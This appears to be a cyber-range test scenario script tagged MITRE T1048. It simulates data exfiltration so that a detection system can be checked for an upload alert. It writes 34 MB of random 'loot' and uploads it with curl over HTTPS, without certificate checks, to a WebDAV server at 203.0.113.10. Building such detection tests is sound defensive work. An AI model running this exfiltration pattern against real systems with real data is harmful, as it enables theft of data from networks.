# SPDX-License-Identifier: Apache-2.0
# what: 34 MB sent out with curl by https
# technique: T1048
# from: ws1
# to: inet
# account: -
# outcome: success
# must: alert upload
. "$RANGE_HERE/item.sh"
head -c 34000000 /dev/urandom >"$HOME/loot.bin"
at inet timeout 60 rclone serve webdav --config /dev/null --addr 203.0.113.10:8443 --cert "$RANGE/cert.pem" --key "$RANGE/key.pem" "$RANGE/hosts/inet/dav" >/dev/null 2>&1 &
sleep 1.5
curl -sS -k -m 50 -f -T "$HOME/loot.bin" https://203.0.113.10:8443/loot.bin
ok=$?
rm "$HOME/loot.bin"
exit $ok
